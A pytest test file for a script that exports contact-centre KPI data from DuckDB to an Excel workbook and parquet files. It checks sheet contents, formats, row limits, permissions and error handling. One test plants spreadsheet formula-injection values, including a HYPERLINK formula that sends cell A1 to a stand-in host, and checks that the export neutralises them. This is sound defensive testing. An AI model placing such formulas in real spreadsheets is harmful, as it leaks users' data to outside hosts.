"""What `make export` writes is what the published file says, and does nothing but say it."""

from __future__ import annotations

import csv
import io
import shutil
import stat
from datetime import datetime
from pathlib import Path
from typing import Any

import duckdb
import openpyxl
import polars
import pytest

from scripts.driving.alone import alone_in
from scripts.export import WORKBOOK, ExportProblem, export, main

FORMULA = '=HYPERLINK("http://example.org/?"&A1,"queue")'
RELATIONS = ("kpi_scorecard", "kpi_values", "dim_kpis")
Rows = list[dict[str, Any]]


@pytest.fixture(scope="module")
def book(spreadsheets: Path) -> openpyxl.Workbook:
    return openpyxl.load_workbook(spreadsheets / WORKBOOK)


def rows_of(book: openpyxl.Workbook, sheet: str) -> Rows:
    """A sheet's rows by the names in its header."""
    header, *rows = book[sheet].iter_rows(values_only=True)
    return [dict(zip(header, row, strict=True)) for row in rows]


def ask(file: Path, query: str) -> Rows:
    with duckdb.connect(str(file), read_only=True) as connection:
        found = connection.execute(query)
        names = [name for name, *_ in found.description]
        return [dict(zip(names, row, strict=True)) for row in found.fetchall()]


def test_the_sheets_are_what_one_looks_for(book: openpyxl.Workbook) -> None:
    assert book.sheetnames == ["About", "Scorecard", "KPI values", "Definitions", "Columns"]
    about = [row[0] for row in book["About"].iter_rows(values_only=True)]
    # The newest arrival of the sample company's quarter.
    assert any(line and line.startswith("Data up to 2026-01-0") for line in about)
    assert not any(line and line.startswith("Left out") for line in about)
    for sheet in book.worksheets[1:]:
        assert sheet.freeze_panes == "A2"
        assert sheet.auto_filter.ref == sheet.dimensions
        assert sheet.column_dimensions["A"].width >= 12


def test_the_scorecard_is_the_published_one(book: openpyxl.Workbook, published: Path) -> None:
    def key(row: dict[str, Any]) -> tuple[object, ...]:
        return (row["kpi_id"], row["variant"], row["grain"], row["slice"], row["channel"])

    written = {key(row): row for row in rows_of(book, "Scorecard")}
    expected = {key(row): row for row in ask(published, "from kpi.kpi_scorecard")}
    assert written.keys() == expected.keys()
    assert len(expected) > 100
    for cell, row in expected.items():
        for name in ("value", "change", "target_low", "low_95"):
            assert written[cell][f"{name} (in unit)"] == pytest.approx(row[name]), (cell, name)
        for name in ("n", "status", "is_change_within_noise"):
            assert written[cell][name] == row[name], (cell, name)
        assert written[cell]["unit"] == ("%" if row["unit"] == "ratio" else row["unit"])


def test_values_are_those_of_weeks_and_months_by_one_thing(
    book: openpyxl.Workbook, published: Path
) -> None:
    keys = ("kpi_id", "variant", "grain", "period_start", "slice", "channel", "queue", "site")
    keys += ("team", "issue_type")
    written = {
        tuple(row[key] for key in keys): (row["n"], row["value (in unit)"])
        for row in rows_of(book, "KPI values")
    }
    expected = ask(
        published,
        """
        select * from kpi.kpi_values
        where grain in ('month', 'week') and detail_value is null and not contains(slice, ',')
            and agent_id is null and segment is null and entry_point is null and shift is null
            and in_business_hours is null and direction is null and hour_of_day is null
        """,
    )
    assert len(expected) > 1000
    assert written == {
        tuple(row[key] for key in keys): (row["n"], pytest.approx(row["value"])) for row in expected
    }


def test_values_look_like_what_they_are(book: openpyxl.Workbook) -> None:
    sheet = book["KPI values"]
    header = {cell.value: cell.column - 1 for cell in sheet[1]}
    formats, days = {}, set()
    for row in sheet.iter_rows(min_row=2):
        formats.setdefault(row[header["unit"]].value, set()).add(
            row[header["value (in unit)"]].number_format
        )
        days.add(row[header["period_start"]])
    assert formats["%"] == {"0.0%"}
    assert formats["seconds"] == {"#,##0.0"}
    assert all(cell.is_date and isinstance(cell.value, datetime) for cell in days)


def test_definitions_and_columns_come_with_it(book: openpyxl.Workbook, published: Path) -> None:
    definitions = {(row["kpi_id"], row["variant"]): row for row in rows_of(book, "Definitions")}
    expected = ask(published, "from kpi.dim_kpis")
    assert {key: row["formula"] for key, row in definitions.items()} == {
        (row["kpi_id"], row["variant"]): row["formula"] for row in expected
    }
    assert all(row["description"] for row in rows_of(book, "Columns"))


@pytest.mark.parametrize("relation", RELATIONS)
def test_parquet_holds_all_of_it_for_polars_and_pandas(
    relation: str, spreadsheets: Path, published: Path
) -> None:
    parquet = spreadsheets / f"{relation}.parquet"
    query = "select count(*), sum(hash(x)) from {} as x"
    with duckdb.connect(str(published), read_only=True) as connection:
        expected = connection.execute(query.format(f"kpi.{relation}")).fetchall()
        assert connection.execute(query.format(f"'{parquet}'")).fetchall() == expected
        # As pandas users do without another package: DuckDB hands the rows over.
        frame = connection.execute(f"from '{parquet}' limit 100").df()
    read = polars.scan_parquet(parquet)
    assert read.select(polars.len()).collect().item() == expected[0][0]
    assert list(frame.columns) == read.collect_schema().names()
    assert len(frame) == len(read.head(100).collect()) > 0


def copied(published: Path, folder: Path) -> Path:
    """A copy to be changed, without the hours and days that take long to write."""
    copy = folder / "copy.duckdb"
    shutil.copyfile(published, copy)
    with duckdb.connect(str(copy)) as connection:
        connection.execute(
            "delete from kpi.kpi_totals where period_no in (select period_no from kpi.kpi_periods"
            " where grain not in ('week', 'month'))"
        )
    return copy


def test_text_is_never_a_formula(published: Path, tmp_path: Path) -> None:
    hostile = copied(published, tmp_path)
    with duckdb.connect(str(hostile)) as connection:
        connection.execute("update kpi.kpi_cells set queue = ? where queue = 'billing'", [FORMULA])
        connection.execute("update kpi.kpi_cells set team = '+1-2' where team <> 'unknown'")
        connection.execute(
            "update kpi.kpi_scorecard set status = '@SUM(A1)', channel = 'http://x.y'"
        )
    export(hostile, tmp_path / "out")
    book = openpyxl.load_workbook(tmp_path / "out" / WORKBOOK)
    cells = [cell for sheet in book for row in sheet.iter_rows() for cell in row if cell.value]
    texts = {cell.value for cell in cells if isinstance(cell.value, str)}
    assert {f"'{FORMULA}", "'+1-2", "'@SUM(A1)", "http://x.y"} <= texts
    assert not [cell for cell in cells if cell.data_type == "f" or cell.hyperlink]
    # Nor does one come of it where a sheet is saved as CSV and opened again.
    saved = io.StringIO()
    csv.writer(saved).writerows([[text] for text in texts])
    again = [row[0] for row in csv.reader(io.StringIO(saved.getvalue())) if row]
    assert not [text for text in again if text[0] in "=+-@\t\r"]


def test_where_a_sheet_is_full_the_newest_periods_are_in_it(
    published: Path, book: openpyxl.Workbook, tmp_path: Path
) -> None:
    most_rows = 500
    export(copied(published, tmp_path), tmp_path, most_rows)
    short = openpyxl.load_workbook(tmp_path / WORKBOOK)
    rows, all_rows = rows_of(short, "KPI values"), rows_of(book, "KPI values")
    first = min(row["period_start"] for row in rows)
    assert 0 < len(rows) <= most_rows < len(all_rows)
    assert rows == [row for row in all_rows if row["period_start"] >= first]
    # One period more would have been too many.
    before = max(row["period_start"] for row in all_rows if row["period_start"] < first)
    assert sum(row["period_start"] >= before for row in all_rows) > most_rows
    said = [row[0] for row in short["About"].iter_rows(values_only=True)][-1]
    left_out = len(all_rows) - len(rows)
    assert said.startswith(f"Left out of the sheet KPI values, which is full: {left_out:,} cells")
    assert f"begin before {first.date()}" in said


def test_files_are_for_owner_and_group_and_replaced_only_as_a_whole(
    published: Path, tmp_path: Path, spreadsheets: Path
) -> None:
    names = sorted([WORKBOOK, *(f"{relation}.parquet" for relation in RELATIONS)])
    assert sorted(path.name for path in spreadsheets.iterdir()) == names
    assert {stat.S_IMODE(path.stat().st_mode) for path in spreadsheets.iterdir()} == {0o640}
    (tmp_path / WORKBOOK).write_text("from before")
    (tmp_path / ".writing-killed").mkdir()
    broken = tmp_path / "broken.duckdb"
    shutil.copyfile(published, broken)
    with duckdb.connect(str(broken)) as connection:
        connection.execute("drop view kpi.kpi_values")
    with pytest.raises(ExportProblem, match=r"broken\.duckdb cannot be exported"):
        export(broken, tmp_path)
    assert (tmp_path / WORKBOOK).read_text() == "from before"
    assert sorted(path.name for path in tmp_path.iterdir()) == ["broken.duckdb", WORKBOOK]


# The file that could not be written complains once more when it is forgotten.
@pytest.mark.filterwarnings("ignore::pytest.PytestUnraisableExceptionWarning")
def test_a_full_disk_is_told(
    published: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    # The device that is always full, in the workbook's place.
    full = tmp_path / "full.xlsx"
    full.symlink_to("/dev/full")
    monkeypatch.setattr("scripts.export.WORKBOOK", str(full))
    with pytest.raises(ExportProblem, match=r"cannot be written .*No space left on device"):
        export(copied(published, tmp_path), tmp_path / "out")
    assert list((tmp_path / "out").iterdir()) == []


def test_one_export_at_a_time(published: Path, tmp_path: Path) -> None:
    under_way = tmp_path / ".writing-now"
    under_way.mkdir()
    with (
        alone_in(tmp_path),
        pytest.raises(ExportProblem, match="Another run is writing into"),
    ):
        export(published, tmp_path)
    assert list(tmp_path.iterdir()) == [under_way]


def test_without_a_published_file_it_says_what_to_do(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture
) -> None:
    monkeypatch.setenv("CONTACT_CENTER_PUBLISHED", str(tmp_path / "warehouse.duckdb"))
    assert main([]) == 1
    assert "make warehouse" in capsys.readouterr().err
    assert list(tmp_path.iterdir()) == []
